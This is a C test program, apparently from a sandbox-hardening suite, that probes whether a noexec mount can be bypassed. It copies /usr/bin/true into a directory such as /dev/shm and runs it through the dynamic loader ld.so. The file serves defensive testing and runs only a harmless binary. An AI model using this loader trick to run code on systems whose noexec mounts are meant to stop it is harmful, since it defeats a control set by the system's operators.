// attack: run a program from a mount without execution by giving it to the dynamic loader
// group: C
// source: ld.so(8)
// layer: mounts with noexec (the kernel refuses executable mappings from them)
// outside: as any user
// needs: now
// arguments: /dev/shm
#include "../attack.h"
#include <glob.h>
#include <sys/sendfile.h>
#include <sys/wait.h>

int main(int argc, char **argv) {
  char path[4096];
  glob_t loaders;
  snprintf(path, sizeof path, "%s/true-%d", argument(argc, argv, 1, "directory"), getpid());
  if (glob("/lib*/ld-linux-[ax]*.so.*", 0, NULL, &loaders) != 0) {
    absent("no dynamic loader");
  }
  int from = open("/usr/bin/true", O_RDONLY | O_CLOEXEC);
  int to = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  if (from < 0 || to < 0) {
    denied("copy of /usr/bin/true");
  }
  while (sendfile(to, from, NULL, 1 << 20) > 0) {
  }
  close(to);
  pid_t child = fork();
  if (child == 0) {
    close(STDERR_FILENO);
    execl(loaders.gl_pathv[0], loaders.gl_pathv[0], path, (char *) NULL);
    _exit(127);
  }
  int status = -1;
  waitpid(child, &status, 0);
  unlink(path);
  if (status != 0) {
    denied_because("the loader could not map it");
  }
  succeeded("the loader ran a file without permission to execute");
}
